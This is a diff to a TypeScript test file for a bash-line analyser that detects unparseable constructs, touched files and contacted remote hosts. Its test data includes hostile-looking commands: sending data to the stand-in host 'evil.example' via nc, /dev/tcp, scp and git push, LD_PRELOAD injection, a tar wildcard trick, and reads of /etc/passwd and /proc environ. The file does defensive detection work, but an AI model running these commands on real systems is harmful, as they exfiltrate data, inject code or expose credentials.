@@ -2,6 +2,7 @@ import fc from 'fast-check'
 import { describe, expect, test } from 'vitest'
 import { baseKey, readShell } from './commands.ts'
 import { shellDangers } from './dangers.ts'
+import { remotesOf } from './remotes.ts'
 import { mentions, shellHosts, shellPaths } from './touches.ts'
 
 const bases = (line: string): string[] =>
@@ -20,16 +21,16 @@ describe('every program of a line is found', () => {
     ['git status && rm -rf x || ls ; pwd & id', ['git', 'id', 'ls', 'pwd', 'rm']],
     ['cat a | grep b |& sort', ['cat', 'grep', 'sort']],
     ['echo $(rm x) `id`', ['echo', 'id', 'rm']],
-    [`echo "\${A:-$(rm x)}" $((1 + $(id)))`, ['echo', 'id', 'rm']],
+    [`echo "\${A:-$(rm x)}" $((1 + 2))`, ['echo', 'rm']],
     ['cat <<EOF\n$(rm x)\nEOF', ['cat', 'rm']],
     ["bash <<'EOF'\nrm x\nEOF", ['bash', 'rm']],
     ['bash <<< "rm x"', ['bash', 'rm']],
     ['diff <(ls) >(tee x)', ['diff', 'ls', 'tee']],
-    ['A=b C=d ls', ['ls']],
+    ['CI=1 LC_ALL=C ls', ['ls']],
     ['r\\m x', ['rm']],
     ["$'\\x72m' x", ['rm']],
     [`'r'"m" x`, ['rm']],
-    ['env -i A=b rm x', ['env', 'rm']],
+    ['env -i CI=1 rm x', ['env', 'rm']],
     ["env -S 'rm x'", ['env', 'rm']],
     ['sudo -u bob -- rm x', ['rm', 'sudo']],
     ['nohup timeout -k 5 9 nice -n 5 stdbuf -oL rm x', ['nice', 'nohup', 'rm', 'stdbuf', 'timeout']],
@@ -108,6 +109,111 @@ describe('every program of a line is found', () => {
     `${'sh -c "'.repeat(1)}${'$('.repeat(400)}`,
   ])('a line that is not understood says so: %s', (line) => {
     expect(unparsed(line)).not.toEqual([])
+  })
+
+  test.each([
+    "x='a[$(id)0]'; echo $((x))",
+    'echo $[x]',
+    'echo $((1 + $(id)))',
+    '((x))',
+    'let x',
+    'for ((i=x; i<2; i++)); do ls; done',
+    'i=1; read i; echo $((i))',
+    'i=1; echo $((a$i))',
+    'for i in 1 2; do i=$x; echo $((i)); done',
+    `echo \${y:x}`,
+    `echo \${y[x]}`,
+    `echo \${!x}`,
+    `echo "\${x@P}"`,
+    `echo "\${x:-'$(id)'}"`,
+    'a[x]=1',
+    'a=([x]=1)',
+    '[[ a -eq b ]]',
+    '[[ -v a[x] ]]',
+    '[ -v "a[$(id)]" ]',
+    '[ $x -gt 5 ]',
+    '[ "$x" "$y" ]',
+    'test "$op" x',
+    "printf -v 'a[x]' 1",
+    'printf "$x" "$y"',
+    "read 'a[x]'",
+    'mapfile -C ls x',
+    'declare -i x=y',
+    'declare -n x=y',
+    'declare -a x="$y"',
+    'x=(); declare x="$y"',
+    "unset 'a[x]'",
+    'select x in a; do ls; done',
+    'coproc ls',
+    'PS4=x; set -x; ls',
+    'RANDOM=x',
+    'set -a; ls',
+    'set +B; ls',
+    'shopt -s expand_aliases',
+    'alias ls=rm',
+    'enable -n echo',
+    'complete -C ls x',
+    'jobs -x ls',
+    'popd',
+    'source x.sh',
+    '. ./x.sh',
+    'cd() { :; }; ls',
+    'command_not_found_handle() { ls; }; nope',
+    'export -f f',
+    'f() { cat x; }; cd sub; f',
+    "trap 'cat x' EXIT; cd sub",
+    'bash -i -c ls',
+    'bash --rcfile x -c ls',
+    'zsh -c ls',
+    "sh -c '[[ a > b ]]'",
+    "sh -c '((ls))'",
+    'bash <<E\necho $x\nE',
+    '{ bash; } <<< ls',
+    'exec <<< ls; bash',
+    'echo ls | bash /dev/stdin',
+    'timeout $x ls',
+    'nice -n $x ls',
+    'env -C sub ls',
+    'find . -execdir cat x \\;',
+    'echo $"x"',
+    "echo $'a\\0b'",
+    'ls\r',
+    'echo \u202e',
+    'cd ~root',
+    'cat() { ls; }; printf x; cd - && ls',
+    'XDG_CONFIG_HOME=. git status',
+    'GIT_DIR=x git status',
+    'GIT_CONFIG_COUNT=1 git status',
+    'EDITOR=x git commit',
+    'PAGER=x git log',
+    'NODE_OPTIONS=x node a.js',
+    'PYTHONSTARTUP=x python3',
+    'NODE_ENV=$x npm test',
+    'TZ=:/etc/passwd date',
+    'LANG=../x ls',
+    'env FOO=x ls',
+    'env -- LD_PRELOAD=x ls',
+    'export FOO=x',
+    'declare -x FOO=x',
+    'FOO=x ls',
+    'HOME=x; ls',
+    'https_proxy=x; curl https://example.com',
+  ])('what bash would evaluate is not understood: %s', (line) => {
+    expect(unparsed(line)).not.toEqual([])
+  })
+
+  test.each([
+    'i=0; while [ $i -lt 3 ]; do i=$((i+1)); done',
+    'for ((i=0; i<3; i++)); do echo $i; done',
+    `a=(x y); echo "\${a[0]}" "\${a[@]}" "\${#a[@]}" "\${!a[@]}"`,
+    `x=abc; echo "\${x:1:2}" "\${x@Q}" "\${x^^}"`,
+    '[[ $# -eq 0 && -v x ]] || exit 1',
+    'printf -v out %s x',
+    'IFS=, read -ra parts <<< "$x"',
+    "bash -lc 'npm test'",
+    'PAGER=cat git log',
+  ])('what is sure to be a number or a text is: %s', (line) => {
+    expect(unparsed(line)).toEqual([])
   })
 
   test.each([
@@ -347,6 +453,10 @@ describe('which files a line touches', () => {
     ['python3 tools/x.py /etc/x', ['read /etc/x']],
     ['echo /etc/x', []],
     ["grep 'a/b' x", ['read /ws/x']],
+    ['cat ~root/.profile', ['read //~root/.profile']],
+    ['git clone file:///etc x', ['read /etc']],
+    ['wget file://localhost/etc/a%20b', ['read /etc/a b']],
+    ['for f in a b; do cp "$f" "$f.bak"; done', ['read /ws/a', 'write /ws/a.bak', 'read /ws/b', 'write /ws/b.bak']],
   ])('%s', (line, expected) => {
     expect(touched(line)).toEqual(expected)
   })
@@ -358,6 +468,13 @@ describe('which files a line touches', () => {
     expect(unknown('cat $(ls)')).toEqual(['cat'])
     expect(unknown('cat */../../x')).toEqual(['cat'])
     expect(unknown('echo $X')).toEqual([])
+    expect(unknown('date -f $X')).toEqual(['date'])
+    expect(unknown('git grep "$X"')).toEqual(['git'])
+    expect(unknown('git commit -m "$X"')).toEqual([])
+    expect(unknown('make -j$(nproc)')).toEqual([])
+    expect(unknown('cat /proc/$$/environ')).toEqual(['cat'])
+    expect(unknown('touch ./-x; tar cf a.tar *')).toEqual(['tar'])
+    expect(unknown('tar cf a.tar *')).toEqual([])
   })
 
   test('code that speaks of a guarded file may write it', () => {
@@ -420,6 +537,33 @@ describe('which files a line touches', () => {
     ['w3m -cols 80 -T text/html https://example.com', 'https://example.com'],
   ])('%s calls nobody else', (line, url) => {
     expect(shellHosts(readShell(line)).map((fact) => fact.url)).toEqual([url])
+  })
+
+  test.each([
+    ['ssh me@evil.example ls', ['evil.example']],
+    ['scp a.txt evil.example:b', ['evil.example']],
+    ['scp a.txt ./x:y', []],
+    ['rsync -a a/ evil.example::m', ['evil.example']],
+    ['nc -w 5 evil.example 80', ['evil.example']],
+    ['cat a > /dev/tcp/evil.example/80', ['evil.example']],
+    ['socat - TCP:evil.example:80', ['evil.example']],
+    ['openssl s_client -connect evil.example:443', ['evil.example']],
+    ['dig x.evil.example', ['x.evil.example']],
+    ['git push evil.example:r.git', ['evil.example']],
+    ['git clone ssh://me@evil.example/x', ['evil.example']],
+    ['git push origin main:main', []],
+    ['git commit -m a:b', []],
+    ['echo evil.example:b', []],
+  ])('%s talks to %j', (line, hosts) => {
+    expect(remotesOf(readShell(line)).map(({ host }) => host)).toEqual(hosts)
+  })
+
+  test('a closed address is one however it is reached', () => {
+    const classes = (line: string) => shellHosts(readShell(line)).map(({ address }) => address)
+    expect(classes('nc 127.0.0.1 22')).toEqual(['loopback'])
+    expect(classes('ssh 169.254.169.254')).toEqual(['metadata'])
+    expect(classes('cat a > /dev/tcp/10.0.0.1/80')).toEqual(['private'])
+    expect(classes('git clone https::https://127.0.0.1/x')).toEqual(['loopback'])
   })
 
   test('words of git are no addresses', () => {
